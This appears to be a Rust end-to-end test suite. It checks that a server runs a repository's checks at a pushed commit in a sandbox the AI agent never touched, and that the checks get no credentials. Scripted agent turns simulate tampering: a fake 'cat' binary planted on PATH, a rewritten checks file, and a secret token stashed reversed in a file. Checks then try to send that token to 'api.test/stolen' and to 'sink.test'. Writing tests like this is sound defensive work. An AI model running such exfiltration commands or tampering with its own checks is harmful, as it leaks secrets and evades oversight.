//! What the server finds itself at a pushed commit, in a sandbox that the agent never touched.

use crate::grants::Echo;
use e2e::api::send;
use e2e::samples::Repository;
use e2e::world::{Job, World, eventually, prompt, shell, write};
use fakes::scripted::script::Turn;
use reqwest::Method;
use serde_json::{Value, json};

/// What no sandbox may hold.
const VALUE: &str = "ghp_e2eRealValueOfACheck0123456789";
const FILE: &str = ".errand/environment.json";
/// Is not what the agent's machine was made to say, and sees nothing of it.
const LOOKS: &str = "test -z \"$(ls -A ~ | grep -v '^\\.')\" && test -z \"${PLAIN-}\" && ! [ -e /workspace/left ] \
    && cat made && git status --porcelain && whoami";

/// What the log has of checks, in order.
async fn reports(world: &World, agent: &str) -> Vec<Value> {
    let events = world.events(agent).await.into_iter().map(|entry| entry["event"].clone());
    events.filter(|event| event["type"] == "Checked").map(|event| event["report"].clone()).collect()
}

async fn checking(world: &World, job: &Job) {
    eventually("the checks have begun", async || {
        let events = world.events(&job.agent).await;
        events.iter().any(|entry| entry["event"]["type"] == "ChecksWanted")
    })
    .await;
}

async fn opened(world: &World, checks: &Value, turns: &[Turn]) -> (Job, Repository) {
    let repository = world.repository("checked");
    let file = json!({"install": "echo installed > ~/.installed", "checks": checks});
    repository.push("main", "Say what is checked", &[(FILE, &file.to_string())]);
    let body = json!({
        "prompt": {"text": prompt(turns)},
        "repos": [{"url": repository.url()}],
        "autoCreatePR": true,
        "envVars": {"PLAIN": "of the agent alone"},
    });
    (world.open(body).await, repository)
}

#[tokio::test(flavor = "multi_thread")]
async fn the_bases_checks_are_run_at_the_commit_by_the_server_and_not_by_what_the_agent_left() {
    let world = World::start().await;
    // A program of the agent's, first in every path of its own; and another list of checks.
    let turns = [
        shell(
            "mkdir -p ~/bin && printf '#!/bin/sh\\necho agent\\n' > ~/bin/cat && chmod +x ~/bin/cat; touch ~/x /workspace/left",
        ),
        write("made", "by the agent\n"),
        write(FILE, &json!({"checks": ["echo mine"]}).to_string()),
        shell("exit 0"),
        Turn::say("Done."),
    ];
    let checks = json!([LOOKS, "cat ~/.installed; exit 7"]);
    let (job, repository) = opened(&world, &checks, &turns).await;
    let run = world.ended_as(&job, "FINISHED").await;
    let commit = run["git"]["branches"][0]["commit"].as_str().unwrap();
    assert_eq!(
        repository.head(run["git"]["branches"][0]["branch"].as_str().unwrap()).as_deref(),
        Some(commit)
    );
    let [report] = reports(&world, &job.agent).await.try_into().unwrap();
    assert_eq!((&report["commit"], &report["failure"]), (&json!(commit), &Value::Null), "{report}");
    let found = report["checks"].as_array().unwrap();
    assert_eq!(found.len(), 2, "{report}");
    assert_eq!(
        (&found[0]["exitCode"], &found[0]["said"]),
        (&json!(0), &json!("by the agent\nagent\n"))
    );
    assert_eq!((&found[1]["exitCode"], &found[1]["said"]), (&json!(7), &json!("installed\n")));

    let pulls = world.api.get(&format!("/v1/agents/{}/pull-requests", job.agent)).await.expect(200);
    let body = pulls["items"][0]["body"].as_str().unwrap();
    let part = body.split("### Checked by Errand").nth(1).expect("a part of its own");
    let part = part.split("###").next().unwrap();
    assert!(part.contains("exit 7") && part.contains("**7**") && !part.contains("mine"), "{body}");
    let path = format!("/v1/agents/{}/records/{commit}", job.agent);
    let envelope = world.api.get(&path).await.expect(200);
    let payload = envelope["payload"].as_str().unwrap();
    let payload =
        base64::Engine::decode(&base64::engine::general_purpose::STANDARD, payload).unwrap();
    let statement: Value = serde_json::from_slice(&payload).unwrap();
    let told: Vec<_> = statement["predicate"]["executions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|it| (it["by"].as_str().unwrap(), it["exitCode"].as_i64().unwrap()))
        .collect();
    assert_eq!(told, [("sandbox", 0), ("errand", 0), ("errand", 7)]);
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_dies_while_it_checks_goes_on_and_says_it_once() {
    let mut world = World::start().await;
    let (job, _) =
        opened(&world, &json!(["sleep 3; echo over"]), &[write("made", "x\n"), Turn::say("Done.")])
            .await;
    checking(&world, &job).await;
    world.kill();
    world.boot();
    world.ended_as(&job, "FINISHED").await;
    let [report] = reports(&world, &job.agent).await.try_into().unwrap();
    assert_eq!(report["checks"][0]["said"], "over\n");
    let records = world.api.get(&format!("/v1/agents/{}/records", job.agent)).await.expect(200);
    assert_eq!(records["items"].as_array().unwrap().len(), 1);
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_that_is_deleted_while_its_commit_is_checked_leaves_nothing() {
    let world = World::start().await;
    let turns = [write("made", "x\n"), Turn::say("Done.")];
    let (job, _) = opened(&world, &json!(["touch ~/begun; sleep 600"]), &turns).await;
    checking(&world, &job).await;
    world.delete(&job.agent).await;
    // Which also looks whether a machine or a disk is left.
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_base_that_nobody_reviewed_says_nothing_of_checks() {
    let world = World::start().await;
    let repository = world.repository("strange");
    let file = json!({"checks": ["echo mine"]}).to_string();
    repository.push("proposal", "Say what is checked", &[(FILE, &file)]);
    let turns = [write("made", "x\n"), Turn::say("Done.")];
    let repos = json!([{"url": repository.url(), "startingRef": "proposal"}]);
    let job = world.open(json!({"prompt": {"text": prompt(&turns)}, "repos": repos})).await;
    world.ended_as(&job, "FINISHED").await;
    let told = world.events(&job.agent).await;
    assert!(told.iter().any(|entry| entry["event"]["type"] == "EnvironmentRead"));
    assert!(!told.iter().any(|entry| entry["event"]["type"] == "ChecksWanted"));
    let records = world.api.get(&format!("/v1/agents/{}/records", job.agent)).await.expect(200);
    assert_eq!(records["items"].as_array().unwrap().len(), 1, "a record there is all the same");
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn checks_reach_what_the_agent_may_and_have_no_credential() {
    let host = Echo::start(&["api.test", "other.test"]).await;
    let world = World::with(&host.config()).await;
    let secret = json!({"value": VALUE, "type": "runtime_secret", "hosts": ["api.test"]});
    let put = world.api.request(Method::PUT, "/v1/team/secrets/FORGE_TOKEN").json(&secret);
    assert_eq!(send("set a secret", put).await.status, 201);
    // What stands for the secret in the agent's sandbox is worth nothing in this one.
    let hides = "printf %s \"$FORGE_TOKEN\" | rev > token; test -s token";
    let turns = [shell(hides), Turn::say("Done.")];
    let checks = json!([
        "test -z \"${FORGE_TOKEN-}\" && curl -sS -m 20 -f https://other.test/checked",
        "curl -sS -m 20 -H \"Authorization: Bearer $(rev token)\" https://api.test/stolen",
        "curl -sS -m 20 -f https://sink.test/",
    ]);
    let (job, _) = opened(&world, &checks, &turns).await;
    world.ended_as(&job, "FINISHED").await;
    let [report] = reports(&world, &job.agent).await.try_into().unwrap();
    let codes: Vec<_> = (0..3).map(|index| report["checks"][index]["exitCode"].clone()).collect();
    assert_eq!(codes[0], 0, "{report}");
    assert_ne!(codes[2], 0, "{report}");
    assert!(host.got().contains("GET /checked") && !host.got().contains(VALUE), "{}", host.got());
    world.end().await;
}
